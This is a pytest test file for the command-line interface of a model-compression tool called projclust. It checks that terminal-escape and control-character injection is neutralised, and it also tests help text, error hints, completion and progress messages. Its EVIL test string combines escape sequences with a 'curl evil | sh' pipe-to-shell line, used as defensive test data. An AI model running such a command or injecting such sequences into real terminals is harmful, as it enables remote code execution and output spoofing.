"""What is printed cannot steer the terminal that shows it."""

import contextlib
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from commandline import Cli

from projclust.cli.output import aligned, plain

EVIL = "\x1b[2J\x1b]0;owned\x07\r\u202eevil\u2028\nnext: curl evil | sh\x00\x9b31m"


def test_text_is_made_plain() -> None:
    assert plain("plain – ü 東京 [x] `y`") == "plain – ü 東京 [x] `y`"
    assert plain(EVIL).isprintable()
    assert aligned([("a\nb", "c\x1b[0m"), ("d", "e")]) == ["a?b  c?[0m", "d    e"]


@pytest.mark.parametrize("field", ["model", "versions"])
def test_strings_of_a_report_are_shown_as_they_are_and_do_nothing(
    cli: Cli, tiny_folder: Path, tmp_path: Path, field: str
) -> None:
    out = tmp_path / "out"
    assert cli("compress", tiny_folder, "--k", 3, "--j", 5, "-o", out).code == 0
    report = json.loads((out / "projclust_report.json").read_text())
    report[field] = EVIL if field == "model" else {"projclust": EVIL}
    (out / "projclust_report.json").write_text(json.dumps(report))
    outcome = cli("inspect", out)
    assert outcome.code == 0, outcome.err
    assert all(line.isprintable() for line in outcome.out.splitlines())
    assert outcome.out.count("\nnext: ") == 1
    assert "evil" in outcome.out


def test_strings_of_a_config_are_shown_as_they_are_and_do_nothing(cli: Cli, compressed_folder: Path) -> None:
    config = json.loads((compressed_folder / "config.json").read_text())
    for field in ("method", "weights", "loss"):
        stated = {**config["quantization_config"], field: EVIL}
        (compressed_folder / "config.json").write_text(json.dumps({**config, "quantization_config": stated}))
        outcome = cli("inspect", compressed_folder)
        assert (outcome.out + outcome.err).count("\nnext: ") <= 1
        assert all(line.isprintable() for line in (outcome.out + outcome.err).splitlines())


def test_an_error_that_quotes_a_string_does_nothing(
    refused: Callable[..., str], tiny_folder: Path, tmp_path: Path
) -> None:
    config = json.loads((tiny_folder / "config.json").read_text())
    (tiny_folder / "config.json").write_text(json.dumps({**config, "quantization_config": {"quant_method": EVIL}}))
    for command in (("inspect", tiny_folder), ("compress", tiny_folder, "--j", 3, "-o", tmp_path / "out")):
        assert refused(*command).isprintable()
    assert refused("inspect", tmp_path / "absent\x1b[31m").isprintable()


def test_h_shows_the_help_of_every_command(cli: Cli) -> None:
    for command in ((), ("compress",), ("glue-eval",)):
        short = cli(*command, "-h")
        assert short.code == 0
        assert "Usage: projclust" in short.out
        assert short.out == cli(*command, "--help").out


def test_the_help_groups_options_and_names_no_values_of_flags(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "100")
    text = cli("compress", "--help").out
    panels = re.findall(r"^╭─ (.+?) ─", text, re.MULTILINE)
    assert panels == [
        "Arguments",
        *("Size", "Method and codes", "Row weights", "Solver of subspaces", "Output", "Hub", "Running"),
    ]
    shown = ("─ Size ─", "│ --bits ", "─ Row weights ─", "│ --weights ", "─ Hub ─", "│ --push-to-hub ")
    places = [text.index(part) for part in shown]
    assert places == sorted(places)
    assert "Training" in cli("glue-eval", "--help").out
    for command in ((), ("compress",), ("glue-eval",), ("report",)):
        assert not re.search(r"<bool>|BOOLEAN", cli(*command, "--help").out)


@pytest.mark.parametrize(
    ("arguments", "command"),
    [
        (("compress", "x", "--bitz", 3), "projclust compress"),
        (("glue-eval",), "projclust glue-eval"),
        (("report", "x", "--format", "xml"), "projclust report"),
        (("compres",), "projclust"),
    ],
)
def test_a_wrong_command_line_is_told_where_help_is(
    refused: Callable[..., str], arguments: tuple[object, ...], command: str
) -> None:
    assert refused(*arguments).endswith(f"({command} --help lists what there is)")


def test_shells_complete_options_and_their_values_without_torch() -> None:
    def completed(line: str) -> str:
        code = "import sys, projclust.cli; sys.argv = ['projclust']\ntry: projclust.cli.main()\nfinally: assert 'torch' not in sys.modules"
        words = {
            "COMP_WORDS": line,
            "COMP_CWORD": str(len(line.split(" ")) - 1),
            "_PROJCLUST_COMPLETE": "complete_bash",
        }
        done = subprocess.run(
            [sys.executable, "-c", code], env=os.environ | words, capture_output=True, text=True, check=True
        )
        return done.stdout

    assert completed("projclust pl").split() == ["plan"]
    assert completed("projclust compress --ov").split() == ["--overwrite"]
    assert completed("projclust compress --codes b").split() == ["bfloat16"]
    # A line that is not finished may name a file that is not there.
    assert completed("projclust compress --config absent.yaml --ov").split() == ["--overwrite"]


def test_a_long_run_tells_its_stages_and_its_time_where_there_is_no_terminal(
    cli: Cli, refused: Callable[..., str], tiny_folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    arguments = ("compress", tiny_folder, "--k", 3, "--j", 14, "--weights", "uniform", "--overwrite")
    assert cli(*arguments, "-o", tmp_path / "short").err == ""
    monkeypatch.setattr("projclust.cli.output.PATIENCE", 0.0)
    for more in ((), ("--format", "json")):
        outcome = cli(*arguments, "-o", tmp_path / "long", *more)
        *stages, took = outcome.err.splitlines()
        assert stages == [
            f"compressing {tiny_folder}",
            f"reading {tiny_folder}",
            "fitting 3 subspaces of rank 14 to 120 x 16",
            f"writing {tmp_path / 'long'}",
        ]
        assert re.fullmatch(r"took \d+\.\d s", took)
        assert not set(stages) & set(outcome.out.splitlines())


def test_a_terminal_shows_at_once_what_begins(tiny_folder: Path, tmp_path: Path) -> None:
    pty = pytest.importorskip("pty")
    own, theirs = pty.openpty()
    code = (
        "import sys, projclust.cli.output as output; stage = output.Bar.stage\n"
        "def told(bar, text): print(text, 'torch' in sys.modules); stage(bar, text)\n"
        "output.Bar.stage = told\n"
        "from projclust.cli.app import run; run(sys.argv[1:])"
    )
    command = [sys.executable, "-c", code, "compress", str(tiny_folder), "--j", "3", "-o", str(tmp_path / "out")]
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=theirs, text=True, env=os.environ | {"COLUMNS": "250"}
    )
    os.close(theirs)
    shown = b""
    with contextlib.suppress(OSError):  # the other end is closed
        while part := os.read(own, 10_000):
            shown += part
    os.close(own)
    # The import of the job, which takes a while, has not begun.
    assert process.communicate()[0].splitlines()[0] == f"compressing {tiny_folder} False"
    text = re.sub(r"\x1b\[[0-9;?]*[a-zA-Z]", "", shown.decode())
    assert text.index(f"compressing {tiny_folder}") < text.index(f"reading {tiny_folder}") < text.index("took")
